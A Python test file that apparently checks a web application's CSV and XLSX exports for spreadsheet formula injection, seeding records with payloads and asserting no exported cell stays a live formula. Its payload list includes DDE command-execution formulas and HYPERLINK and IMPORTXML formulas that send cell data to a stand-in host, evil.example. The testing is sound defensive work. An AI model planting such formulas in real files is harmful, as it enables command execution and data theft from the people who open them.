"""What a spreadsheet would run, in every text of every kind of record: no file that is taken out holds a formula."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest

from rapport.builtin.exchange.formulas import bare, guard
from rapport.entities import Field
from rapport.testing import TestApp
from tests.security.kinds import one_of_each, whole_site
from tests.torture import tally, tries

FORMULAS = [
    "=1+1",
    "+1+1+cmd",
    "-1+1+cmd",
    "@SUM(A1)",
    "\t=1+1",
    "＝1+1",
    "＋1+cmd",
    "－1+cmd",
    "＠SUM(1)",
    "=cmd|' /C calc'!A0",
    "'=1+1",
    "''=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+49 170 1234567",
    "-5",
    "+",
    "-",
    "+1.5e3",
    "-5,50",
]
STARTS = tuple("=+-@\t\r\n＝＋－＠")
HARMLESS = re.compile(r"[+-]?\d[\d., ()eE+]*|[+-]")


def formulas_in(answer: Any) -> list[str]:
    """The cells of a file that a spreadsheet would work out."""
    if answer.mimetype == "text/csv":
        rows = csv.reader(io.StringIO(answer.get_data().decode("utf-8-sig"), newline=""))
        return [cell for row in rows for cell in row if cell.startswith(STARTS) and not HARMLESS.fullmatch(cell)]
    with zipfile.ZipFile(io.BytesIO(answer.get_data())) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if "worksheets/" in name]
    return [found.decode() for sheet in sheets for found in re.findall(rb"<f[ >].{0,80}|<hyperlink.{0,80}", sheet)]


class Formulas:
    """Another one for each text; what a field does not take stays as usual."""

    def __init__(self) -> None:
        self.number = 0

    def __call__(self, field: Field, usual: Any) -> Any:
        if field.kind not in {"text", "longtext"} or field.choices or field.target or field.max_length < 60:
            return usual
        self.number += 1
        return FORMULAS[self.number % len(FORMULAS)]


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_no_file_that_is_taken_out_holds_a_formula(database_url: str, tmp_path: Path) -> None:
    with whole_site(tmp_path, database_url) as app:
        value = Formulas()
        made = one_of_each(app, value)
        client, wrong, files, held = app.client, [], 0, 0
        for name in list(made)[:: tries(2, long=1)]:
            for kind in ("csv", "xlsx"):
                with client.get(f"/api/v1/{name}/export?format={kind}") as answer:
                    assert answer.status_code == 200, (name, answer.get_data(as_text=True))
                    files += 1
                    held += any(each.encode() in answer.get_data() for each in ("1+1", "cmd", "SUM"))
                    wrong += [(name, kind, each) for each in formulas_in(answer)]
        wrong += [("a card", "csv", each) for each in formulas_in(_card_of(app))]
        assert wrong == []
        assert held > 10
    tally("B6", "cells of every kind of record", tried=files, texts=value.number, formulas=0)


def _card_of(app: TestApp) -> Any:
    """The file of a card that lists records whose names are formulas."""
    for formula in FORMULAS:
        app.create_customer(name=formula)
    with app.site.write(app.admin) as unit:
        entities = app.site.entities
        board = unit.create(entities["dashboards.dashboard"], {"name": "Formulas"})
        card = unit.create(entities["dashboards.card"], {
            "dashboard_id": str(board.id), "title": "Customers", "shape": "list", "entity": "customer",
        })  # fmt: skip
    answer = app.browser().get(f"/dashboards/{board.id}/card/{card.id}/file")
    assert answer.status_code == 200
    assert "cmd" in answer.get_data(as_text=True)
    return answer


def test_every_guarded_cell_comes_back_as_it_was_and_an_unguarded_one_is_found() -> None:
    """The control."""

    class Raw:
        mimetype = "text/csv"

        def get_data(self) -> bytes:
            text = io.StringIO()
            csv.writer(text).writerows([[each] for each in FORMULAS])
            return text.getvalue().encode()

    assert [bare(guard(each)) for each in FORMULAS] == FORMULAS
    caught = len(formulas_in(Raw()))
    assert caught >= 12
    tally("B6", "cells of every kind of record", control=caught)
